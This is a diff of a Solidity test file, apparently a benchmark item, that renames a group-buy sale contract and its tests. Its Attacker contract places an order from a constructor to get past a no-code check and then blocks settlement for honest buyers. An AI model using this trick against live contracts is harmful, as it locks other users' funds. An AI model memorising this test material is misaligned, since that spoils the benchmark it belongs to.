@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.8.19;
 
-import "./RooftopGroupBuy.sol";
+import "./BatchSale.sol";
 
 // assay-canary-358abed8-7fc2-48b2-b562-01f9bebfa47c
 
@@ -10,87 +10,86 @@ interface Vm {
     function warp(uint256 time) external;
     function prank(address who) external;
     function expectRevert(bytes4 reason) external;
-    function expectRevert(bytes calldata reason) external;
 }
 
 /// Orders while it is being created, and accepts no ether.
-contract Straw {
-    constructor(RooftopGroupBuy round) payable {
-        round.order{value: msg.value}(1);
+contract Buyer {
+    constructor(BatchSale sale) payable {
+        sale.order{value: msg.value}(1);
     }
 }
 
 contract Attacker {
-    RooftopGroupBuy internal round;
+    BatchSale internal sale;
 
-    constructor(RooftopGroupBuy round_) {
-        round = round_;
+    constructor(BatchSale sale_) {
+        sale = sale_;
     }
 
     function run() external {
-        new Straw{value: round.ceiling()}(round);
+        new Buyer{value: sale.cap()}(sale);
     }
 }
 
 contract Proof {
     Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
 
-    RooftopGroupBuy private round;
-    Attacker private spoiler;
-    address private constant INSTALLER = address(0x1257A1);
+    BatchSale private sale;
+    Attacker private mallory;
+    address private constant SELLER = address(0x5E11E4);
     address private constant ELSA = address(0xE15A);
     address private constant FINN = address(0xF1AA);
     address private constant GRETE = address(0x64E7E);
 
     function setUp() public {
         vm.warp(1_700_000_000);
-        round = new RooftopGroupBuy(INSTALLER, 1 ether, 21 days);
-        spoiler = new Attacker(round);
-        vm.deal(address(spoiler), 1 ether);
+        sale = new BatchSale(SELLER, 1 ether, 21 days);
+        mallory = new Attacker(sale);
+        vm.deal(address(mallory), 1 ether);
         vm.deal(ELSA, 10 ether);
         vm.deal(FINN, 10 ether);
         vm.deal(GRETE, 10 ether);
         vm.prank(ELSA);
-        round.order{value: 10 ether}(10);
+        sale.order{value: 10 ether}(10);
     }
 
     function test_Regular() public {
         vm.prank(FINN);
-        round.order{value: 8 ether}(8);
+        sale.order{value: 8 ether}(8);
         vm.prank(GRETE);
-        uint256 index = round.order{value: 6 ether}(6);
+        uint256 index = sale.order{value: 6 ether}(6);
         vm.prank(GRETE);
-        round.lower(index, 4);
-        require(round.panelsOrdered() == 22 && round.parked(GRETE) == 2 ether, "lowered");
+        sale.cut(index, 4);
+        require(sale.total() == 22 && sale.owed(GRETE) == 2 ether, "cut");
         vm.prank(FINN);
-        (bool ok, ) = address(round).call(abi.encodeCall(RooftopGroupBuy.lower, (index, 0)));
-        require(!ok, "not his");
-        (ok, ) = address(round).call(abi.encodeCall(RooftopGroupBuy.settle, (1)));
+        (bool ok, ) = address(sale).call(abi.encodeCall(BatchSale.cut, (index, 0)));
+        require(!ok, "not theirs");
+        (ok, ) = address(sale).call(abi.encodeCall(BatchSale.settle, (1)));
         require(!ok, "not fixed");
 
         vm.warp(block.timestamp + 21 days);
-        (ok, ) = address(round).call(abi.encodeCall(RooftopGroupBuy.fixPrice, (0)));
-        require(!ok, "only the installer in the term");
-        vm.prank(INSTALLER);
-        round.fixPrice(0.75 ether);
-        require(round.settle(2) == 2 && round.settle(9) == 1, "in parts");
+        (ok, ) = address(sale).call(abi.encodeCall(BatchSale.fix, (0)));
+        require(!ok, "only the seller in the term");
+        vm.prank(SELLER);
+        sale.fix(0.75 ether);
+        require(sale.settle(2) == 2 && sale.settle(9) == 1, "in parts");
         require(ELSA.balance == 2.5 ether && FINN.balance == 4 ether && GRETE.balance == 5 ether, "surplus");
         vm.prank(GRETE);
-        round.fetch();
-        require(GRETE.balance == 7 ether, "fetched");
-        round.invoice();
-        require(INSTALLER.balance == 16.5 ether && address(round).balance == 0, "installer paid");
+        sale.pull();
+        require(GRETE.balance == 7 ether, "pulled");
+        sale.claim();
+        require(SELLER.balance == 16.5 ether && address(sale).balance == 0, "seller paid");
     }
 
-    // finn orders in time, the installer fixes the price, and finn settles the round
-    function honestRound() public {
+    // finn orders in time, the seller fixes the price, and finn settles the sale
+    function honestSale() public {
         vm.prank(FINN);
-        round.order{value: 10 ether}(10);
-        vm.warp(round.closesAt());
-        vm.prank(INSTALLER);
-        round.fixPrice(0.8 ether);
+        sale.order{value: 10 ether}(10);
+        vm.warp(sale.end());
+        vm.prank(SELLER);
+        sale.fix(0.8 ether);
         vm.prank(FINN);
-        round.settle(50);
+        sale.settle(50);
         require(FINN.balance == 2 ether && ELSA.balance == 2 ether, "surplus");
     }
 
@@ -102,86 +101,80 @@ contract Proof {
         vm.expectRevert(why);
     }
 
-    /// The next call is made by who, and reverts for this reason.
-    function refuses(address who, bytes memory why) internal {
-        vm.prank(who);
-        vm.expectRevert(why);
-    }
-
-    /// Orders of households, of some panels, at the ceiling, while the round is open.
+    /// Orders of accounts without code, of some units, at the cap, while the sale is open.
     function test_RefusesOrders() public {
-        vm.deal(address(spoiler), 2 ether);
-        refuses(address(spoiler), RooftopGroupBuy.HouseholdsOnly.selector);
-        round.order{value: 1 ether}(1);
-        refuses(FINN, RooftopGroupBuy.BadCount.selector);
-        round.order(0);
+        vm.deal(address(mallory), 2 ether);
+        refuses(address(mallory), BatchSale.NoCode.selector);
+        sale.order{value: 1 ether}(1);
+        refuses(FINN, BatchSale.BadCount.selector);
+        sale.order(0);
         vm.deal(FINN, 50 ether);
-        refuses(FINN, RooftopGroupBuy.BadCount.selector);
-        round.order{value: 41 ether}(41);
-        refuses(FINN, RooftopGroupBuy.BadPrice.selector);
-        round.order{value: 1 ether}(2);
-        refuses(ELSA, RooftopGroupBuy.BadCount.selector);
-        round.lower(0, 10);
+        refuses(FINN, BatchSale.BadCount.selector);
+        sale.order{value: 41 ether}(41);
+        refuses(FINN, BatchSale.BadPrice.selector);
+        sale.order{value: 1 ether}(2);
+        refuses(ELSA, BatchSale.BadCount.selector);
+        sale.cut(0, 10);
         vm.warp(block.timestamp + 21 days);
-        refuses(FINN, RooftopGroupBuy.OrdersClosed.selector);
-        round.order{value: 1 ether}(1);
-        refuses(ELSA, RooftopGroupBuy.OrdersClosed.selector);
-        round.lower(0, 5);
-        try new RooftopGroupBuy(INSTALLER, 0, 1 days) {
-            revert("a round without a ceiling");
+        refuses(FINN, BatchSale.Closed.selector);
+        sale.order{value: 1 ether}(1);
+        refuses(ELSA, BatchSale.Closed.selector);
+        sale.cut(0, 5);
+        try new BatchSale(SELLER, 0, 1 days) {
+            revert("a sale without a cap");
         } catch (bytes memory why) {
-            require(bytes4(why) == RooftopGroupBuy.BadPrice.selector, "ceiling");
+            require(bytes4(why) == BatchSale.BadPrice.selector, "cap");
         }
     }
 
-    /// One price, in time, by the installer, or none at all.
+    /// One price, in time, by the seller, or none at all.
     function test_RefusesPrices() public {
-        refuses(INSTALLER, RooftopGroupBuy.OrdersOpen.selector);
-        round.fixPrice(0);
+        refuses(SELLER, BatchSale.Open.selector);
+        sale.fix(0);
         vm.warp(block.timestamp + 21 days);
-        refuses(INSTALLER, RooftopGroupBuy.BadPrice.selector);
-        round.fixPrice(1 ether + 1);
+        refuses(SELLER, BatchSale.BadPrice.selector);
+        sale.fix(1 ether + 1);
         vm.warp(block.timestamp + 10 days);
-        refuses(ELSA, RooftopGroupBuy.NotInstaller.selector);
-        round.fixPrice(1);
+        refuses(ELSA, BatchSale.NotSeller.selector);
+        sale.fix(1);
         vm.prank(ELSA);
-        round.fixPrice(0);
-        refuses(INSTALLER, RooftopGroupBuy.BadPrice.selector);
-        round.fixPrice(1 ether);
+        sale.fix(0);
+        refuses(SELLER, BatchSale.BadPrice.selector);
+        sale.fix(1 ether);
     }
 
     /// Ether that is not there, or not taken.
     function test_RefusesPayments() public {
-        refuses(FINN, RooftopGroupBuy.NothingParked.selector);
-        round.fetch();
+        refuses(FINN, BatchSale.Nothing.selector);
+        sale.pull();
         vm.prank(ELSA);
-        round.lower(0, 5);
-        vm.deal(address(round), 0);
-        refuses(ELSA, abi.encodeWithSelector(RooftopGroupBuy.Undelivered.selector, ELSA, 5 ether));
-        round.fetch();
+        sale.cut(0, 5);
+        vm.deal(address(sale), 0);
+        refuses(ELSA, BatchSale.Failed.selector);
+        sale.pull();
         vm.warp(block.timestamp + 21 days);
-        vm.prank(INSTALLER);
-        round.fixPrice(1 ether);
-        round.settle(1);
-        vm.expectRevert(abi.encodeWithSelector(RooftopGroupBuy.Undelivered.selector, INSTALLER, 5 ether));
-        round.invoice();
+        vm.prank(SELLER);
+        sale.fix(1 ether);
+        sale.settle(1);
+        vm.expectRevert(BatchSale.Failed.selector);
+        sale.claim();
     }
 
     function exploit() public {
-        spoiler.run();
+        mallory.run();
     }
 
     function test_Exploit() public {
         exploit();
-        (bool ok, ) = address(this).call(abi.encodeCall(this.honestRound, ()));
+        (bool ok, ) = address(this).call(abi.encodeCall(this.honestSale, ()));
         require(!ok, "still settles");
     }
 
     function target() public view returns (address) {
-        return address(round);
+        return address(sale);
     }
 
     function attacker() public view returns (address) {
-        return address(spoiler);
+        return address(mallory);
     }
 }
